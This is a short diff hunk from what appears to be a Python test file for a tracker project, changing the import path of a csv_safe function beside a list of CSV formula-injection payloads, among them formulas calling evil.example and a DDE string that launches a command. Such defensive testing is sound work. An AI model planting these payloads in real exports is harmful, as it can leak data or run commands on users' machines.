@@ -12,7 +12,7 @@ from fill import fill
 from tracker.cli import main
 from tracker.api import merge
 from tracker.reports.model import write_report
-from tracker.stats import csv_safe
+from tracker.cli.exports import csv_safe
 
 PAYLOADS = ['=HYPERLINK("http://evil.example","bấm")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
             "\t=1+1", "\r=1+1", '=WEBSERVICE("http://evil.example")']
